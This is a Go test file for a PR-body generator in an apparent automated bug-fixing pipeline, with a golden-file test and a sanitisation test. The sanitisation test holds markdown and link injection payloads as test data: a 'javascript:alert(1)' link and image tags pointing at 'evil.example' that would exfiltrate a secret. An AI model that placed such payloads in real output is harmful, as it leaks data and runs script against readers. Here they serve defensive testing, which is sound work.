package report

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dawnpatch/dawnpatch/internal/incident"
	"github.com/dawnpatch/dawnpatch/internal/pipeline"
)

var update = flag.Bool("update", false, "rewrite golden files")

func goldenResult() *pipeline.Result {
	return &pipeline.Result{
		Incident: &incident.Incident{
			Type: "runtime.errorString", Message: "runtime error: invalid memory address or nil pointer dereference",
			Culprit: "example.com/shop/internal/orders in applyDiscount", Fingerprint: strings.Repeat("4a9", 21) + "0",
			Frames: []incident.Frame{
				{File: "internal/orders/handler.go", Line: 59, Function: "(*Handler).discount", InApp: true},
				{File: "internal/orders/pricing.go", Line: 21, Function: "applyDiscount", InApp: true},
			},
			Sentry: &incident.SentryRef{IssueID: "42", ShortID: "SHOP-1A", Permalink: "https://acme.sentry.io/issues/42/", Count: 17, UserCount: 5},
		},
		Fix: &pipeline.FixReport{
			RootCause: "The handler passes a nil discount for unknown codes.", WhyNotSymptom: "Only the handler knows the code was bad input.",
			CauseFrame: "internal/orders/handler.go:58 (*Handler).discount", CrashFrame: "internal/orders/pricing.go:21 applyDiscount",
			Evidence: []string{"internal/orders/handler.go:58: d := h.discounts[code]"},
			Diff:     "--- a/internal/orders/handler.go\n+++ b/internal/orders/handler.go\n@@ -58 +58,5 @@\n-\td := h.discounts[code]\n+\td, ok := h.discounts[code]\n",
			Checks: []pipeline.Check{
				{Name: "New test on the base code (must fail)", Command: "go test -run ^TestX$ ./internal/orders", Output: "--- FAIL: TestX\npanic: nil pointer", Duration: time.Second},
				{Name: "New test with the fix (must pass)", Command: "go test -run ^TestX$ ./internal/orders", Passed: true, Output: "ok", Duration: time.Second},
			},
			Suite:      "7 tests pass with the fix",
			Scores:     []pipeline.Score{{Criterion: "root_cause", Score: 0.9, Reason: "fixed | in the handler"}},
			JudgeTotal: 0.9,
		},
		Usage: pipeline.Usage{ModelCalls: 3, Tokens: 7704, CostUSD: 0.0123, TestTime: 4 * time.Second},
	}
}

func TestPRBodyGolden(t *testing.T) {
	got := PRBody(goldenResult())
	golden := filepath.Join("..", "..", "testdata", "pr", "demo.md.golden")
	if *update {
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/report -update)", err)
	}
	if got != string(want) {
		t.Errorf("PR body differs from %s; run with -update and review the diff", golden)
	}
}

func TestPRBodyIsCappedAndLinksOnlyHTTPS(t *testing.T) {
	res := goldenResult()
	res.Fix.Checks[0].Output = strings.Repeat("x", 500000)
	res.Fix.Diff = strings.Repeat("+line\n", 100000)
	res.Incident.Sentry.Permalink = "javascript:alert(1)"
	res.Incident.Message = "![exfil](https://evil.example/?s=secret) ``` break out"
	body := PRBody(res)
	if len(body) > 65536 {
		t.Errorf("body is %d characters, over GitHub's 65,536", len(body))
	}
	if strings.Contains(body, "](javascript:") {
		t.Error("a non-https Sentry link made it into the body")
	}
	res.Incident.Sentry.Permalink = "https://acme.sentry.io/issues/42/)![x](https://evil.example/"
	if body := PRBody(res); strings.Contains(body, ")![x](") {
		t.Error("a permalink closed its link and added an image")
	}
	if i := strings.Index(body, "![exfil]"); i < 0 || !strings.Contains(body[:i], "````text") {
		t.Error("the message's markdown image is not fenced as data")
	}
}
